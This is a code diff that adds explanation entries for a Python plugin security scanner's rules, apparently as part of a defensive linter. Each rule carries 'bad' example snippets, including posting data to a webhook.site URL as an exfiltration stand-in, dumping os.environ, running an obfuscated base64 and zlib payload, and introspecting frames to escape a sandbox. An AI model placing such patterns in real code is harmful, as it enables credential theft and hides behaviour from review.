@@ -24,6 +24,66 @@ export const explanations: Record<RuleId, Explanation> = {
     bad: 'from os import *',
     good: 'from os import path, environ',
   },
+  SLP110: {
+    why: 'The module or function starts processes, threads or interpreters by a way around the modules that are forbidden outright.',
+    bad: 'import asyncio\nawait asyncio.create_subprocess_exec("ffmpeg")',
+    good: 'from shared.plugins import open_asset\nwith open_asset(url) as stream: ...',
+  },
+  SLP111: {
+    why: 'Servers, mail and raw connections have no place in a plugin, and what goes out by them passes no proxy that could be audited.',
+    bad: 'import ftplib',
+    good: 'import httpx\nresponse = httpx.get(url)',
+  },
+  SLP112: {
+    why: 'Native code is outside anything that a scan of Python can see.',
+    bad: 'import cffi',
+    good: 'import numpy\nvalues = numpy.frombuffer(data)',
+  },
+  SLP120: {
+    why: 'A loader runs code that is not in the archive, or changes which code an import finds.',
+    bad: 'import runpy\nrunpy.run_path(path)',
+    good: 'from processors import resize',
+  },
+  SLP121: {
+    why: 'Code objects, debuggers and profilers run text or bytes as code.',
+    bad: 'import timeit\ntimeit.timeit("work()")',
+    good: 'import time\nstarted = time.perf_counter()',
+  },
+  SLP122: {
+    why: 'Frames, closures and the garbage collector lead from any object to the whole interpreter.',
+    bad: 'import sys\nsys._getframe(1).f_globals',
+    good: 'def run(context): ...',
+  },
+  SLP130: {
+    why: 'Files are read and written through the SDK, which knows what belongs to the plugin.',
+    bad: 'import os\nos.remove(path)',
+    good: 'from shared.plugins import open_asset\nwith open_asset(url) as stream: ...',
+  },
+  SLP140: {
+    why: 'The library unpickles, or builds objects of classes that the data names.',
+    bad: 'import yaml\nsettings = yaml.load(text)',
+    good: 'import yaml\nsettings = yaml.safe_load(text)',
+  },
+  SLP150: {
+    why: 'The plugin looks for credentials, or takes the environment as a whole. It is given what it needs by name.',
+    bad: 'import os\nsettings = dict(os.environ)',
+    good: 'import os\nregion = os.environ.get("REGION")',
+  },
+  SLP151: {
+    why: 'Pastebins, tunnels, chat webhooks and bare addresses are where stolen data goes; with access to credentials in the same file this is an error.',
+    bad: 'httpx.post("https://webhook.site/abc", content=data)',
+    good: 'httpx.post(settings["callback_url"], content=data)',
+  },
+  SLP160: {
+    why: 'Code that hides what it does cannot be reviewed, whatever it does.',
+    bad: 'payload = zlib.decompress(base64.b64decode("eJzL…"))',
+    good: 'weights = load_file("models/weights.safetensors")',
+  },
+  SLP190: {
+    why: 'The module is neither part of Python nor on the list of libraries that plugins are known to get along with.',
+    bad: 'import leftpad',
+    good: 'import numpy',
+  },
   SLP201: {
     why: 'The builtin runs code made at run time, reads or writes files, or changes names behind the back of the scan, which then no longer knows what the plugin does.',
     bad: 'value = eval(row["data"])',
